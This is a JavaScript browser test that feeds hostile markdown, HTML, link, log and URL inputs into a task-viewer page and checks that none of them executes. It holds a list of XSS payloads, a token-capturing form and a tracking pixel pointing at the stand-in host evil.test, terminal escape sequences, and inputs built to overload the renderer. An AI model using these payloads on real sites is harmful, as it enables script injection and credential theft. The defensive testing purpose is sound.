// What somebody wrote to break the page: markdown, names, titles, messages and log lines. Nothing of it runs, nothing is
// asked for elsewhere, the policy is not even tried, and the page can still be used.
import assert from 'node:assert/strict';
import { finish, kubectl, kubectlOn, looksWell, open, podOf, signIn, takeScreenshots, taskRun, wrong, writeLog } from './browser.js';

const { PAGE_EDITOR: editor } = process.env;
const HACK = 'globalThis.hacked=1';
const RLO = '\u202e';
const ESC = '\u001b';

const MARKUP = [
  `<script>${HACK}</script>`,
  `<img src=x onerror="${HACK}">`,
  `<svg onload="${HACK}"><script>${HACK}</script><a xlink:href="javascript:${HACK}"><text>x</text></a></svg>`,
  `<iframe srcdoc="<script>parent.${HACK}</script>"></iframe>`,
  `<iframe src="javascript:${HACK}"></iframe>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${HACK}>`,
  `<details open ontoggle="${HACK}">x</details>`,
  `<style>@import "https://evil.test/a.css"; body{display:none}</style>`,
  `<base href="https://evil.test/"><link rel=stylesheet href="https://evil.test/a.css"><meta http-equiv=refresh content="0;url=https://evil.test">`,
  `<form action="https://evil.test"><input name=token><button>Sign in</button></form>`,
  `<input autofocus onfocus="${HACK}">`,
  `<object data="data:text/html,<script>${HACK}</script>"></object><embed src="javascript:${HACK}">`,
  `<a href="javascript:${HACK}">html link</a>`,
  `"><script>${HACK}</script>`,
  `{{constructor.constructor('${HACK}')()}} \${${HACK}}`,
];
const LINKS = [
  `[a](javascript:${HACK})`,
  `[b](JaVaScRiPt:${HACK})`,
  `[c](<java\nscript:${HACK}>)`,
  `[d](&#106;avascript:${HACK})`,
  `[e](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `[f](vbscript:x)`,
  `[g](//evil.test/x)`,
  `[h](#/tasks/task-2?tab=log)`,
  `[i]: javascript:${HACK}\n\n[i]`,
  `<javascript:${HACK}>`,
  `![j](javascript:${HACK})`,
  `![tracked](https://evil.test/pixel.png)`,
  `[![k](data:image/svg+xml,<svg/onload=${HACK}>)](javascript:${HACK})`,
  `[l](https://evil.test/${'a'.repeat(3000)})`,
  `[good${RLO}dab](https://example.test/)`,
];
const DEEP = {
  quotes: '>'.repeat(5_000) + ' deep',
  lists: Array.from({ length: 400 }, (_, i) => `${'  '.repeat(i)}- x`).join('\n'),
  brackets: '['.repeat(30_000),
  stars: '*a **b '.repeat(10_000),
  links: '[a]('.repeat(10_000),
  backticks: Array.from({ length: 2_000 }, (_, i) => '`'.repeat(i % 300)).join(' '),
  entities: '&'.repeat(50_000) + '&amp;&#x202e;&NotEqualTilde;&#0;',
  table: `|${'a|'.repeat(2_000)}\n|${'-|'.repeat(2_000)}\n|${'<b>|'.repeat(2_000)}`,
  line: 'x'.repeat(200_000),
  zalgo: `Z${'\u0300\u0489'.repeat(2_000)}algo`,
  controls: `bell\u0007 back\u0008 nul-free ${ESC}[2J ${RLO}evil.md ${'\u2066'.repeat(50)} \u200b zero`,
};
const TITLE = `${RLO}<script>${HACK}</script>"><img src=x onerror=${HACK}> ${'long '.repeat(60)}`;

// ----------------------------------------------------------------------------------------------------------------

const files = { 'task.md': `# Hostile\n\n${MARKUP.join('\n\n')}\n\n${LINKS.join('\n\n')}\n` };
for (const [name, text] of Object.entries(DEEP)) files[`deep-${name}.md`] = `${name}\n\n${text}\n`;
files[`${'n'.repeat(120)}.md`] = 'a long name';
const env = [{ name: 'MODEL', value: `<img src=x onerror=${HACK}>${RLO}` }];
const message = `<img src=x onerror=${HACK}> ${ESC}[31m${RLO}reversed`;
kubectlOn('create', taskRun(1, files, { title: TITLE, env }), taskRun(2, { 'task.md': 'harmless' }, { title: 'Harmless' }));
const pod = await podOf('auth-service', 1, 1);
const LOG = [
  ...Array.from({ length: 30_000 }, (_, i) => `line ${i} <b onclick=${HACK}>`),
  `<script>${HACK}</script><img src=x onerror=${HACK}>`,
  `${ESC}[31mred${ESC}[0m ${ESC}[2J${ESC}[H ${ESC}]0;title\u0007 ${ESC}]8;;javascript:${HACK}\u0007link${ESC}]8;;\u0007 ${ESC}[?1049h${ESC}c end of escapes`,
  `${RLO}desrever si eman siht${'\u2066'.repeat(10)}`,
  `progress 1 %\rprogress 99 %\rprogress 100 %`,
  'h'.repeat(2_000_000),
  `nul \u0000 and bell \u0007 and ${'\u009b'}31m`,
  'the last line',
];
writeLog(pod, `${LOG.join('\n')}\n`);

const page = await open();
await signIn(page, editor);

/** Nothing has run, and the page answers within a second. */
async function isWell(view) {
  assert.equal(await page.evaluate(() => globalThis.hacked), undefined, `${view}: a script ran`);
  const began = Date.now();
  await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve))));
  assert.ok(Date.now() - began < 1_000, `${view}: busy for ${Date.now() - began} ms`);
  await looksWell(page, `hostile: ${view}`);
}

await page.getByRole('row', { name: /Harmless/ }).waitFor();
const row = page.locator('tr[data-row]', { hasText: '<script>' });
await row.waitFor();
assert.ok((await row.textContent()).includes('⟨U+202E⟩'), 'what turns the text around is shown');
assert.equal((await row.boundingBox()).height, 56, 'no title makes a row higher');
await isWell('the list');

// each link that is there goes only where nothing runs
await row.getByRole('link').click();
await page.getByRole('heading', { name: 'Hostile' }).waitFor();
const articles = page.locator('article.file');
assert.equal(await articles.count(), Object.keys(files).length);
await page.waitForFunction(() => document.querySelectorAll('.paper .markdown, .paper .raw').length === document.querySelectorAll('article.file').length);
const links = await page.$$eval('.markdown a', (all) => all.map((a) => [a.protocol, a.rel, a.target]));
assert.equal(links.length, 3);
for (const [protocol, rel, target] of links) {
  assert.ok(['https:', 'http:', 'mailto:'].includes(protocol), protocol);
  assert.deepEqual([rel, target], ['noopener noreferrer', '_blank']);
}
const tags = await page.$$eval('main *', (all) => [...new Set(all.map((it) => it.localName))]);
for (const tag of ['script', 'img', 'iframe', 'object', 'embed', 'style', 'link', 'meta', 'base', 'form', 'math', 'foreignObject'])
  assert.ok(!tags.includes(tag), `a <${tag}>`);
const handlers = await page.$$eval('main *', (all) => all.flatMap((it) => it.getAttributeNames().filter((name) => name.startsWith('on') || name === 'style' && it.closest('.markdown'))));
assert.deepEqual(handlers, []);
await isWell('the files');
await takeScreenshots(page, 'hostile');
await page.getByLabel('As written').check();
await page.locator('pre.raw').first().waitFor();
await isWell('the files as written');

// its log
await page.getByRole('tab', { name: 'Log' }).click();
await page.locator('.log').getByText('the last line').waitFor();
const log = await page.locator('.log').textContent();
assert.ok(!log.includes(ESC) && !log.includes(RLO), 'no escape is left');
assert.ok(log.length < 2_000_000, `${log.length} characters`);
for (const shown of [`<img src=x onerror=${HACK}>`, 'red  link  end of escapes', '⟨U+202E⟩desrever', 'h… (the line goes on)', 'nul ⟨U+0000⟩ and bell', '\nprogress 100 %\n'])
  assert.ok(log.replaceAll(/ {2,}/g, '  ').includes(shown), shown);
await isWell('the log');

// its message, by the end of its pod
kubectl('annotate', 'pods', '-l', 'task-id=1', 'kwok.test/outcome=failed', `kwok.test/message=${message}`);
await page.locator('.now').getByText('<img src=x').waitFor();
assert.ok(!(await page.locator('main').innerText()).includes(RLO));
await page.getByRole('tab', { name: 'Events' }).click();
await page.locator('.events li').first().waitFor();
await isWell('the Events');

// what somebody types is looked at before it is sent; names that are refused are shown
await page.getByRole('button', { name: 'Add context' }).click();
const dialog = page.getByRole('dialog');
await dialog.getByLabel('context-v2.md').fill(files['task.md'] + DEEP.quotes);
await dialog.getByRole('button', { name: 'Preview' }).click();
await dialog.locator('.markdown, .raw').first().waitFor();
await isWell('a preview');
await dialog.getByRole('button', { name: 'Close' }).last().click();
await page.keyboard.press('n');
await dialog.getByLabel('Number', { exact: true }).fill('3');
await dialog.getByLabel('Service', { exact: true }).fill('auth-service');
await dialog.getByLabel('Agent', { exact: true }).fill('agent');
await dialog.getByLabel('Name of file 1').fill(`<img src=x onerror=${HACK}>${RLO}.md`);
await dialog.getByLabel('Text of file 1').fill('x');
await dialog.getByRole('button', { name: 'Submit the task' }).click();
await dialog.locator('fieldset.file .wrong').waitFor();
await isWell('a name that is refused');
await dialog.getByRole('button', { name: 'Close' }).last().click();

// addresses
for (const hash of ['#/tasks/%3Cimg%20src=x%20onerror=globalThis.hacked=1%3E', '#/tasks/%E0%A4%A', '#javascript:alert(1)', `#/tasks/..%2f..%2fhealth`, '#/?q=%3Cscript%3E&phase=%22%3E&sort=__proto__', '#/tasks/task-1?tab=constructor&version=1e9&from=-1']) {
  await page.evaluate((hash) => { location.hash = hash; }, hash);
  await page.locator('#title').first().waitFor({ state: 'attached' });
  await isWell(hash);
}

// and the other task is as it was
await page.evaluate(() => { location.hash = '#/tasks/task-2'; });
await page.getByText('harmless', { exact: true }).waitFor();
console.log(`hostile: ${MARKUP.length + LINKS.length + Object.keys(DEEP).length} texts, ${LOG.length} log lines; ${wrong.filter((it) => it.startsWith('the policy')).length} CSP violations`);
await finish();
